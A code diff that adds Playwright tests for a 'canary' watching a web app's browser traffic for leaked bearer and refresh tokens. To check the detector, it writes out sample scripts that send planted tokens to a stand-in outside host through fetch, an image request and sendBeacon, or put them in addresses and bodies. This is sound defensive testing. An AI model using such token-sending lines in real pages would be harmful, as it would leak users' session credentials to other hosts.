@@ -4,6 +4,8 @@ import { createTokenWatch } from './tokenCanary.ts';
 
 const elsewhere = 'https://elsewhere.test';
 const token = 'fcm-planted';
+const bearer = 'access.planted.by.test';
+const refresh = 'refresh.planted.by.test';
 
 /** Requests that a careless change could make, as scripts of the page or of its worker. */
 const leaks: Record<string, string> = {
@@ -16,6 +18,56 @@ const leaks: Record<string, string> = {
   'in a stream': `void new EventSource('${elsewhere}/stream?token=${token}')`,
   'in an image': `void (new Image().src = '${elsewhere}/${token}.png')`,
 };
+
+const leaksOfTheSession: Record<string, string> = {
+  'a bearer for another host': `fetch('${elsewhere}/', { headers: { Authorization: 'Bearer ${bearer}' } })`,
+  'a bearer for the host of the app': `fetch('${appOrigin}/', { headers: { Authorization: 'Bearer ${bearer}' } })`,
+  'a bearer for what is no call': `fetch('${apiOrigin}/images/1.svg', { headers: { Authorization: 'Bearer ${bearer}' } })`,
+  'a bearer in an address': `fetch('${apiOrigin}/api/event/popular?token=${encodeURIComponent(bearer)}')`,
+  'a bearer in an image': `void (new Image().src = '${elsewhere}/?${bearer}')`,
+  'a bearer in a body': `fetch('${apiOrigin}/api/topic/subscribe', { method: 'POST', body: '${bearer}' })`,
+  'a refresh token for another call': `fetch('${apiOrigin}/api/topic/subscribe', { method: 'POST', body: '${refresh}' })`,
+  'a refresh token in place of the bearer': `fetch('${apiOrigin}/api/event/popular', { headers: { Authorization: 'Bearer ${refresh}' } })`,
+  'a refresh token in a beacon': `void navigator.sendBeacon('${elsewhere}/', '${refresh}')`,
+};
+
+test.describe('the canary of the session', () => {
+  for (const [what, script] of Object.entries(leaksOfTheSession)) {
+    test(`notices ${what}`, async ({ browser }) => {
+      const context = await browser.newContext({ bypassCSP: true });
+      const watch = createTokenWatch();
+      watch.watch(context);
+      const page = await context.newPage();
+      await page.route(`${elsewhere}/**`, (route) =>
+        route.fulfill({
+          headers: { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' },
+        }),
+      );
+      await page.goto(`${appOrigin}/privacy_consent_form.html`);
+      await page.evaluate(`void Promise.resolve(${script}).catch(() => undefined)`);
+      await expect.poll(() => watch.leaks).toEqual([expect.stringMatching(/^(bearer|refresh token): /)]);
+      await context.close();
+    });
+  }
+
+  test('lets them go to the calls and to the reissue', async ({ browser }) => {
+    const context = await browser.newContext();
+    const watch = createTokenWatch();
+    watch.watch(context);
+    const page = await context.newPage();
+    await page.goto(`${appOrigin}/privacy_consent_form.html`);
+    await page.evaluate(
+      async ([api, access, body]) => {
+        const headers = { Authorization: `Bearer ${access}` };
+        await fetch(`${api}/api/event/popular`, { headers }).catch(() => undefined);
+        await fetch(`${api}/api/users/reissue-token`, { method: 'PATCH', body }).catch(() => undefined);
+      },
+      [apiOrigin, bearer, refresh] as const,
+    );
+    expect(watch.leaks).toEqual([]);
+    await context.close();
+  });
+});
 
 test.describe('the canary of the push token', () => {
   for (const [how, script] of Object.entries(leaks)) {
